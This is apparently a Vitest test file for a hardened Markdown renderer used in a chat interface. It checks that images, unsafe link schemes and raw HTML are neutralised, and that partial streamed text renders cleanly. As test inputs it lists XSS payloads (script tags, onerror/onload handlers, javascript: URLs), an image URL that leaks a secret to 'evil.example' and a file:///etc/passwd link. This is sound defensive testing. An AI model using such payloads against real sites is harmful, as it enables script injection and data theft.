// @vitest-environment jsdom
import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import Markdown from './Markdown';

const show = (text: string, growing = false) =>
  render(<Markdown text={text} growing={growing} />).container;

describe('hardened Markdown', () => {
  it('shows a link instead of an image', () => {
    const page = show('![chart](https://evil.example/p.png?leak=secret)');
    expect(page.querySelector('img')).toBeNull();
    expect(page.innerHTML).not.toMatch(/background|src=/);
    expect(screen.getByRole('link').getAttribute('href')).toContain('https://evil.example/');
  });

  it('opens links in a new tab without access to this page', () => {
    show('[docs](https://example.com/a)');
    const link = screen.getByRole('link');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.getAttribute('target')).toBe('_blank');
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,hi)',
    '[x](vbscript:x)',
    '[x](/api/chat/conversations)',
    '[x](//evil.example)',
    '[x](file:///etc/passwd)',
    '![x](javascript:alert(1))',
    '<javascript:alert(1)>',
  ])('makes no link of %s', (text) => {
    expect(show(text).querySelector('a')).toBeNull();
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>body{display:none}</style>',
  ])('shows %s as what it is', (text) => {
    const page = show(`${text}\n\nand on`);
    expect(page.querySelector('script,img,iframe,svg,a,style')).toBeNull();
    expect(page.textContent).toContain('and on');
  });

  it('lets wide tables scroll horizontally', () => {
    const page = show('| a | b |\n|---|---|\n| 1 | 2 |');
    expect(page.querySelector('.table-scroll > table')).not.toBeNull();
  });
});

describe('growing Markdown', () => {
  it.each([
    ['a **bold', 'strong'],
    ['some `code', 'code'],
    ['an *idea', 'em'],
  ])('shows %s as it will end', (text, tag) => {
    const page = show(text, true);
    expect(page.querySelector(tag)).not.toBeNull();
    expect(page.textContent).not.toMatch(/[*`]/);
  });

  it('shows the text of a link whose address is incomplete', () => {
    const page = show('see [the docs](https://exa', true);
    expect(page.textContent).toBe('see the docs');
    expect(page.querySelector('a')).toBeNull();
  });

  it('offers to copy code when it is complete', () => {
    const open = show('```python\nx = 1', true);
    expect(open.querySelector('button')).toBeNull();
    const closed = show('```python\nx = 1\n```\n', true);
    expect(closed.querySelector('button')).not.toBeNull();
    expect(closed.querySelector('code')?.textContent).toBe('x = 1');
  });
});
